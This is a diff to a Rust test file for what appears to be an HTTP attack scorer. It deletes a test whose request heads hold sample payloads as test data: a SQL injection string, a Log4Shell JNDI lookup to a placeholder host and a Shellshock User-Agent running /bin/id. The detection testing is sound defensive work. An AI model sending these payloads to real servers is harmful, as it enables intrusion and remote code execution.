@@ -3,7 +3,6 @@ use serde_json::json;
 use super::{Evidence, Models, Score, Scorer, Source, fusion, input::Described};
 use crate::{
     finding::{Finding, FindingId, Severity},
-    http::{Limits, read_request},
     time::Time,
     token::TokenReport,
 };
@@ -44,34 +43,6 @@ fn an_attack_is_found_wherever_it_stands_and_its_place_is_told() {
         let first = &score.reasons()[0];
         assert_eq!((first.source, first.score), (Source::Payload, score.value));
         assert!(first.detail.starts_with(&format!("{id} in {place}: ")), "{}", first.detail);
-    }
-}
-
-/// A head's lines that were looked at before are not again, and only those: the same score comes
-/// from a scorer that has seen everything and from one that has seen nothing.
-#[test]
-fn what_is_remembered_of_heads_changes_no_score() {
-    let lines = |agent: &str| format!("HTTP/1.1\r\nHost: a\r\nUser-Agent: {agent}\r\n\r\n");
-    let heads: Vec<String> = [
-        ("/a", "curl/8.5.0"),
-        ("/b?id=1%27%20or%201=1--", "curl/8.5.0"),
-        ("/a", "curl/8.5.1"),
-        ("/a", "${jndi:ldap://x.example/a}"),
-        ("/c", "curl/8.5.0"),
-        ("/c", "() { :;}; /bin/id"),
-    ]
-    .map(|(target, agent)| format!("GET {target} {}", lines(agent)))
-    .to_vec();
-    let mut used = scorer();
-    for round in 0..3 {
-        for head in &heads {
-            let at = Time::from_unix_secs(round);
-            let (request, _) = read_request(head.as_bytes(), at, &Limits::default()).unwrap();
-            let of = |scorer: &mut Scorer| {
-                scorer.score(&request, &TokenReport::default(), std::iter::empty())
-            };
-            assert_eq!(of(&mut used), of(&mut scorer()), "{head}");
-        }
     }
 }
 
